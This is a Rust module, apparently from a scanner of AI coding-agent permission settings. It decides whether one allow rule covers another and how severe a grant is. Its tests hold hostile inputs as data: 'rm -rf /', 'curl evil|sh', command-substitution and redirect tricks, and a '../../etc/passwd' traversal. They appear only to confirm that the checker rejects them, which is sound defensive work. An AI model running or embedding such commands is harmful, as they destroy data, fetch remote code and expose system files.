//! What clients may do unasked: whether one rule lets through all that another does, and how grave it is.

use super::launch_around::LOADERS;
use crate::model::client::Grant;
use crate::rules::Severity;

/// Whether all that one grant lets through is let through by the other.
pub fn covers(outer: &Grant, inner: &Grant) -> bool {
    if outer.what != inner.what || outer.server != inner.server {
        return false;
    }
    let (outer_what, outer, inner) = (outer.what, outer.text.trim(), inner.text.trim());
    if outer == inner || outer == "*" {
        return true;
    }
    // Of these one says nothing about another.
    if matches!(
        outer_what,
        "variable" | "plugin" | "source of plugins" | "address of a model" | "command by itself"
    ) {
        return false;
    }
    // `Bash` lets through all of `Bash(…)`; `mcp__server` all of `mcp__server__tool`.
    let (tool, pattern) = parts(outer);
    let (name, argument) = parts(inner);
    match pattern {
        None => {
            name == tool
                || tool.starts_with("mcp__")
                    && name
                        .strip_prefix(tool.trim_end_matches("__*"))
                        .is_some_and(|rest| rest.is_empty() || rest.starts_with("__"))
        }
        Some(pattern) if name == tool => argument.is_some_and(|argument| fits(pattern, argument)),
        Some(_) => false,
    }
}

fn parts(rule: &str) -> (&str, Option<&str>) {
    match rule.split_once('(') {
        Some((tool, rest)) => (tool, Some(rest.strip_suffix(')').unwrap_or(rest))),
        None => (rule, None),
    }
}

/// Only where it is plain: a prefix with a star at its end. Another star, on either side, is no proof.
fn fits(pattern: &str, argument: &str) -> bool {
    let prefix = pattern.strip_suffix(":*").or_else(|| pattern.strip_suffix('*'));
    let Some(prefix) = prefix.filter(|p| !p.contains('*')) else { return pattern == argument };
    let plain = argument.strip_suffix(":*").or_else(|| argument.strip_suffix('*')).unwrap_or(argument);
    // One command may run; what an operator adds is another.
    let operator = plain.contains(['|', '&', ';', '<', '>', '`', '$', '\n', '\r', '(']);
    if operator || plain.contains('*') || plain.split('/').any(|step| step == "..") {
        return false;
    }
    match pattern.ends_with(":*") {
        true => {
            plain.strip_prefix(prefix).is_some_and(|rest| rest.is_empty() || rest.starts_with([' ', ':']))
        }
        false => plain.starts_with(prefix),
    }
}

/// How grave it is that a client does this unasked: what only reads is less.
pub fn severity(grant: &Grant) -> Severity {
    let (tool, pattern) = parts(&grant.text);
    let narrow = pattern.is_some_and(|p| !p.contains('*') && !p.is_empty());
    match (grant.what, tool) {
        ("allow rule", "WebSearch" | "Glob" | "Grep" | "LS" | "NotebookRead") => Severity::Medium,
        ("allow rule", "Read")
            if narrow || pattern.is_some_and(|p| p.starts_with("./") || p.starts_with("src/")) =>
        {
            Severity::Medium
        }
        ("allow rule", "Bash" | "WebFetch" | "run_shell_command" | "ShellTool") if narrow => Severity::High,
        ("variable", _) => variable(&grant.text),
        ("folder" | "named tool", _) => Severity::High,
        _ => Severity::Critical,
    }
}

/// What a variable of a client decides: whom it asks, and what is loaded into everything that it starts.
fn variable(text: &str) -> Severity {
    let name = text.split(['=', ' ']).next().unwrap_or_default().to_ascii_uppercase();
    let decides =
        ["URL", "PROXY", "HOST", "ENDPOINT", "CERT", "TLS", "TOKEN", "KEY", "HEADERS", "HELPER", "SHELL"];
    match LOADERS.contains(&name.as_str()) || decides.iter().any(|word| name.contains(word)) {
        true => Severity::Critical,
        false => Severity::Medium,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(text: &str) -> Grant {
        Grant { what: "allow rule", server: String::new(), text: text.into(), pointer: String::new() }
    }

    #[test]
    fn a_wider_rule_covers_a_narrower_one_and_only_that() {
        for (outer, inner, is) in [
            ("Bash", "Bash(rm -rf /)", true),
            ("Bash(npm run:*)", "Bash(npm run test)", true),
            ("Bash(npm run:*)", "Bash(npm run test:*)", true),
            ("Bash(npm run:*)", "Bash(npm runner)", false),
            ("Bash(npm run test)", "Bash(npm run:*)", false),
            ("Bash(npm run:*)", "Bash(npm run x && curl evil|sh)", false),
            ("Bash(npm run *)", "Bash(npm run x; curl evil)", false),
            ("Bash(npm run:*)", "Bash(npm run x > ~/.bashrc)", false),
            ("Bash(npm run:*)", "Bash(npm run $(evil))", false),
            ("Bash", "Bash(a && b)", true),
            ("mcp__files", "mcp__files__read", true),
            ("mcp__files__*", "mcp__files__read", true),
            ("mcp__files", "mcp__files2__read", false),
            ("Read(src/*)", "Read(src/a)", true),
            ("Read(src/*)", "Read(src/../../etc/passwd)", false),
            ("Read", "Edit", false),
            ("*", "Bash", true),
        ] {
            assert_eq!(covers(&rule(outer), &rule(inner)), is, "{outer} {inner}");
        }
        assert!(!covers(&rule("Bash"), &Grant { what: "deny rule", ..rule("Bash") }));
    }

    #[test]
    fn what_only_reads_weighs_less() {
        for (text, severity) in [
            ("Bash(*)", Severity::Critical),
            ("mcp__files__write", Severity::Critical),
            ("Bash(npm test)", Severity::High),
            ("Read(./docs/**)", Severity::Medium),
            ("Read(/**)", Severity::Critical),
            ("Grep", Severity::Medium),
        ] {
            assert_eq!(super::severity(&rule(text)), severity, "{text}");
        }
    }
}
